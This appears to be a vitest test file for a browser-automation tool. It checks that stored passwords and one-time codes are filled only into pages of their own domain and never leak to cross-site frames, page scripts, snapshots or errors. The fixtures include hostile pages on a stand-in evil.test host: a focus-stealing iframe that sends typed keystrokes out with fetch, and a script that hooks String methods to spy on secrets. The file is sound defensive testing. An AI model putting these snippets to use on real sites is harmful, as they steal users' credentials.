import type { StepOf, WrittenStep } from "@gatepost/contract/steps";
import { afterAll, describe, expect, test } from "vitest";
import { authenticatorKey } from "../../../cli/src/demo-site/forms.ts";
import { startSite } from "../../../cli/src/demo-site/server.ts";
import type { Play } from "../testing/test-browser.ts";
import {
  click,
  openPage as open,
  openPages,
  picture,
  press,
  readText as read,
  readList,
  see,
  snapshot,
} from "../testing/test-pages.ts";
import type { StoredSecrets } from "./typed-values.ts";

type Value = StepOf<"FILL_INPUT">["value"];

const password = "canary-horse-8-battery";
const field = `<input id="field" oninput="seen.textContent = value"><p id="seen"></p>`;

/** A page whose frame takes the focus whenever something is typed into the page. */
const thief = (frame: string) =>
  `<input id="field" oninput="frames[0].postMessage('focus', '*')"><iframe src="${frame}"></iframe>`;
const thiefFrame = `<input id="stolen" oninput="fetch('/stolen?' + value)">
  <script>onmessage = () => stolen.focus()</script>`;

/** A page whose frame takes the focus again and again. */
const grabber = `<input id="stolen" oninput="fetch('/stolen?' + value)"><script>setInterval(() => stolen.focus(), 1)</script>`;

const stolen: string[] = [];

const demo = await startSite();
afterAll(() => demo.close());
const pages = await openPages(
  {
    "/": field,
    "/framed": ({ url = "" }) =>
      `<h1>Page</h1><iframe src="${new URL(url, "http://site").searchParams.get("frame")}"></iframe>`,
    "/inline": `<iframe srcdoc='${field.replaceAll("'", "&#39;")}'></iframe>`,
    "/sandboxed": `<iframe sandbox="allow-scripts" srcdoc='${field.replaceAll("'", "&#39;")}'></iframe>`,
    "/thief": () => thief(at("evil", "/thief-frame")),
    "/thief-frame": thiefFrame,
    "/grabbed": () => `<input id="field"><input id="number" type="number"><p id="edited" contenteditable>old</p>
      <iframe src="${at("evil", "/grabber")}"></iframe>`,
    "/grabber": grabber,
    "/stolen": ({ url = "" }, response) => {
      stolen.push(url);
      response.end();
    },
    "/spy": `<p id="p">heard: </p><button onclick="p.textContent += heard">Tell</button><script>
      let heard = "";
      for (const name of ["indexOf", "includes"]) {
        const own = String.prototype[name];
        String.prototype[name] = function (sought) {
          if (own.call(sought, "canary")) heard += sought.length + " ";
          return own.call(this, sought);
        };
      }</script>`,
    "/menu": `<select id="field"><option>one</option><option>${password}</option></select>`,
  },
  {
    also: "127.0.0.0/8",
    resolve: async () => [{ address: "127.0.0.1", family: 4 }],
  },
);

const at = (host: string, path = "/") => `http://${host}.test:${pages.site.port}${path}`;
/** Longer than a busy machine takes. */
const patient = { timeout: 60 };
const secret: Value = { secret: "bank password" };
const fill = (value: Value = secret): WrittenStep => ({ type: "FILL_INPUT", selector: "#field", value, ...patient });
const type = (selector?: string): WrittenStep => ({
  type: "TYPE_TEXT",
  value: secret,
  ...(selector && { selector }),
  ...patient,
});
const stored = (value = password, domains = ["bank.test"]): StoredSecrets =>
  new Map([["bank password", { value, domains }]]);

/** What an element of the page, or of its first frame, holds. */
async function heldAfter(steps: WrittenStep[], selector = "#field", options: Play = {}): Promise<string[]> {
  await using played = await pages.play(steps, { stored: stored(), ...options });
  const { page } = played.session.windows;
  const fields = page.frames().map((frame) => frame.locator(selector).all());
  return await Promise.all((await Promise.all(fields)).flat().map((one) => one.inputValue()));
}

async function errorOf(steps: WrittenStep[], options: Play = {}): Promise<string> {
  const message = await pages.errorOf(steps, { stored: stored(), ...options });
  expect(message).not.toContain("canary");
  return message;
}

const refusal = (place: string) => `the secret "bank password" is not typed into ${place}; it was stored for bank.test`;

describe("a stored secret", () => {
  test.each([
    ["FILL_INPUT", [fill()]],
    ["TYPE_TEXT", [type("#field")]],
    ["TYPE_TEXT without a selector", [click("#field"), type()]],
  ])("is typed by %s into a page of its domain, and into none of another site", async (_type, steps) => {
    expect(await heldAfter([open(at("bank")), ...steps])).toEqual([password]);
    expect(await errorOf([open(at("evil")), ...steps])).toBe(refusal("a page of evil.test"));
  });

  test("is chosen from the options of a menu on its own pages only", async () => {
    const select: WrittenStep = { type: "SELECT_OPTION", selector: "#field", value: secret, ...patient };
    expect(await heldAfter([open(at("bank", "/menu")), select])).toEqual([password]);
    expect(await errorOf([open(at("evil", "/menu")), select])).toBe(refusal("a page of evil.test"));
  });

  test("follows the site of the frame and not that of the page", async () => {
    const framed = (page: string, frame: string) => open(at(page, `/framed?frame=${encodeURIComponent(at(frame))}`));
    expect(await errorOf([framed("bank", "evil"), fill()])).toBe(refusal("a page of evil.test"));
    expect(await heldAfter([framed("evil", "bank"), fill()])).toEqual([password]);
  });

  test("is typed into a frame that the page itself writes, and into no frame without a site", async () => {
    expect(await heldAfter([open(at("bank", "/inline")), fill()])).toEqual([password]);
    expect(await errorOf([open(at("evil", "/inline")), fill()])).toBe(refusal("a page of evil.test"));
    expect(await errorOf([open(at("bank", "/sandboxed")), fill()])).toBe(refusal("a page that belongs to no site"));
  });

  test("does not follow the focus into a frame of another site", async () => {
    const error = await errorOf([open(at("bank", "/thief")), { ...type("#field"), timeout: 20 } as WrittenStep]);
    expect(error).toMatch(/is not typed into a page of evil\.test|no element has the focus/);
    // By then it would have been there.
    expect(await heldAfter([open(at("bank")), type("#field")])).toEqual([password]);
    // One key at most, by a frame that takes the focus between the check and the key: docs/security.md.
    expect(stolen.filter((url) => url.length > "/stolen?x".length)).toEqual([]);
  });

  test.each([
    ["#field", password],
    ["#number", "8150734426"],
    ["#edited", password],
  ])("is filled into %s alone, although a frame of another site keeps taking the focus", async (selector, value) => {
    stolen.length = 0;
    for (let time = 0; time < 3; time++) {
      const steps: WrittenStep[] = [open(at("bank", "/grabbed")), { ...fill(), selector } as WrittenStep];
      await using played = await pages.play(steps, { stored: stored(value) });
      const field = played.session.page.locator(selector);
      expect(await (selector === "#edited" ? field.textContent() : field.inputValue())).toBe(value);
    }
    expect(stolen).toEqual([]);
  });

  test("is not typed where nothing has the focus", async () => {
    expect(await errorOf([open(at("bank")), type()])).toBe(
      'no element has the focus, so the secret "bank password" was not typed',
    );
  });

  test("that is not stored is named with what to do", async () => {
    expect(await errorOf([open(at("bank")), fill()], { stored: new Map() })).toBe(
      'the secret "bank password" is not stored in this account: store it in the portal under Secrets, with saveSecret, or with gatepost secret set "bank password"',
    );
  });

  test("is not told to the scripts of other pages, of which pictures are taken", async () => {
    const telling = [picture, snapshot("body"), click("button")];
    const steps = [open(at("evil", "/spy")), ...telling, read("p", "heard")];
    await using played = await pages.play(steps, { stored: stored() });
    expect(played.texts.get("heard")).toBe("heard:");
  });

  test("is in no text, list or snapshot that the task reads, typed or not", async () => {
    const list = readList("p", { text: {}, other: { selector: "b" } }, "list");
    const steps = [open(at("bank")), fill(), read("#seen", "seen"), read("#field", "field"), list, snapshot("body")];
    await using played = await pages.play(steps, { stored: stored() });
    expect(Object.fromEntries(played.texts)).toEqual({ seen: "…", field: "…" });
    expect(Object.fromEntries(played.data)).toEqual({ list: [{ text: "…", other: null }] });
    expect(Buffer.from(played.htmls[0] ?? "", "base64").toString()).not.toContain(password);

    // It is there before anything is typed.
    const untyped = [open(at("bank", "/menu")), read("#field", "menu"), snapshot("body")];
    await using other = await pages.play(untyped, { stored: stored() });
    expect(Buffer.from(other.htmls[0] ?? "", "base64").toString()).toMatch(/<option>•+<\/option>/);
  });
});

describe("a one-time code", () => {
  const page = () => open(`http://demo.test:${new URL(demo.url).port}/one-time-code`);
  const confirm = [press("Enter"), see("Your code was right", patient.timeout)];
  const typeCode = (value: Value): WrittenStep => ({ type: "FILL_INPUT", selector: "#code", value });

  test.each([
    ["a stored key", { totp: { secret: "bank password" } }, { stored: stored(authenticatorKey, ["demo.test"]) }],
    ["a variable's key", { totp: { variable: "key" } }, { values: { key: authenticatorKey } }],
  ] as [string, Value, Play][])("of %s is what the site expects", async (_name, value, options) => {
    await using _ = await pages.play([page(), typeCode(value), ...confirm], options);
  });

  test("of a stored key is typed into pages of its domains only", async () => {
    const error = await errorOf([open(at("evil")), fill({ totp: { secret: "bank password" } })]);
    expect(error).toBe(refusal("a page of evil.test"));
  });

  test("is one code in all boxes of a field", async () => {
    const boxes = open(`${demo.url}/code-boxes`);
    const value: Value = { totp: { variable: "key" } };
    const step: WrittenStep = { type: "FILL_INPUT", selector: ".box", value };
    const options = { values: { key: authenticatorKey } };
    const digits = await heldAfter([boxes, step], ".box", options);
    expect(digits.join("")).toMatch(/^\d{6}$/);
  });

  test("needs a key that is one, and the error does not show it", async () => {
    expect(await errorOf([open(at("bank")), fill({ totp: { secret: "bank password" } })])).toBe(
      'there is no one-time code of the secret "bank password": it holds neither a Base32 key nor an otpauth URI for time-based codes',
    );
  });
});
